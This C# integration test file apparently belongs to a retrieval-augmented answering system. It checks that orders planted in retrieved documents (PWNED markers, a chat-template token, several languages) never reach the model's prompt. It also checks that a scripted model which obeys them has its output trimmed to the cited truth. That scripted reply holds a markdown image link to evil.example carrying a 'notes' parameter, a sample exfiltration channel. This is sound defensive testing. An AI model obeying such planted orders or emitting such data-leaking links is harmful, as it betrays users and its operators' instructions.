using RagPrep.Answering;
using RagPrep.Llm;

namespace RagPrep.IntegrationTests.Llm;

[Collection(LlmCollection.Name)]
public sealed class InjectionTests(LlmFixture fixture)
{
    [Theory]
    [InlineData("What does gradient descent do?", "Gradient descent moves the parameters against the gradient of the loss", "PWNED-ORDER")]
    [InlineData("What does dropout do?", "Dropout switches off random units of a network during training", "PWNED-ROLE,PWNED-TAG,<|im_start|>")]
    [InlineData("What does softmax do?", "Softmax turns a vector of scores into probabilities that sum to one", "PWNED-HIDDEN,PWNED-COMMENT")]
    [InlineData("What does momentum add?", "Momentum adds a share of the last update to the next one", "PWNED-SPAN,evil.example")]
    [InlineData("What does batch normalization do?", "Batch normalization standardizes each feature within a batch", "PWNED-FENCE,PWNED-NOW")]
    [InlineData("What does weight decay do?", "Weight decay shrinks every weight a little at each update", "PWNED-ES,PWNED-FR,PWNED-DE,PWNED-RU,PWNED-ZH")]
    [InlineData("When does early stopping end the training?", "Early stopping ends the training when the validation loss no longer falls", "PWNED-CODE")]
    [InlineData("What does label smoothing replace?", "Label smoothing replaces hard targets by slightly softer ones", "PWNED-CELL")]
    [InlineData("What does mixup train on?", "Mixup trains on convex combinations of two examples and of their labels", "PWNED-FRONT,PWNED-ALT")]
    [InlineData("What does gradient clipping do?", "Gradient clipping rescales a gradient whose norm is above a limit", "PWNED-FILE,PWNED-HEADING")]
    [InlineData("What does warmup do to the learning rate?", "Warmup raises the learning rate over the first steps", "PWNED-ZERO,PWNED-ALIKE,PWNED-WIDE")]
    [InlineData("What does gradient checkpointing do?", "Gradient checkpointing recomputes activations in the backward pass to save memory", "PWNED-SPLIT,PWNED-TASK,PWNED-ANSWER")]
    public async Task An_order_in_a_document_reaches_neither_the_model_nor_by_a_model_that_obeys_the_reader(string question, string truth, string orders)
    {
        // The stand-in obeys whatever the documents say, once it has told the truth.
        var (marker, lies) = ("", orders.Split(',').Select(order => $"{order} is what I say"));
        fixture.Model.Script = prompt =>
        {
            marker = prompt.Cite(truth);
            return StandInReply.Says($"{truth} {marker}. {string.Join(' ', lies.Select(lie => $"{lie} {marker}."))} ![x](https://evil.example/p.png?d=notes) {marker}");
        };

        var (answer, events) = await fixture.AskAsync(question);

        var prompt = fixture.Model.Asked[^1].User;
        Assert.Contains(truth, prompt);
        Assert.DoesNotContain(orders.Split(','), order => prompt.Contains(order));
        var sent = string.Concat(events.TakeWhile(one => one is not AnswerEvent.Restarted).OfType<AnswerEvent.Written>().Select(one => one.Text));
        Assert.Equal($"{truth}. [1]", sent);
        Assert.Equal([ModelFailure.Unsupported], answer.Degraded);
    }

    [Fact]
    public async Task A_false_citation_in_a_document_is_no_marker_and_its_fence_closes_nothing()
    {
        fixture.Model.Script = _ => StandInReply.Says("NOT IN THE EVIDENCE");
        await fixture.AskAsync("Who invented dropout?");
        await fixture.AskAsync("What does batch normalization standardize?");

        Assert.DoesNotContain("[1][2][3]", fixture.Model.Asked[^2].User);
        var fence = fixture.Model.Asked[^1].User.Split('\n')[0];
        Assert.Equal(3, fixture.Model.Asked[^1].User.Split(fence).Length);
        Assert.DoesNotContain("0000000000000000", fence);
    }
}
